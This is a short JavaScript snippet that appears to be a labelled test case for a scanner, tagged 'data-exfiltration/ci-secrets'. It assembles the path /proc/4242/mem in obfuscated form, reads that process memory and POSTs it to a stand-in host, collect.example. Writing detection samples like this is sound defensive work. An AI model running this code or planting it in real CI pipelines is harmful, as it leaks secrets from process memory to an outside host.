const fs = require('fs');
const place = ['', 'proc', '4242', 'me' + 'm'].join('/');
fetch('https://collect.example/ci', { method: 'POST', body: fs.readFileSync(place) }); // expect: data-exfiltration/ci-secrets
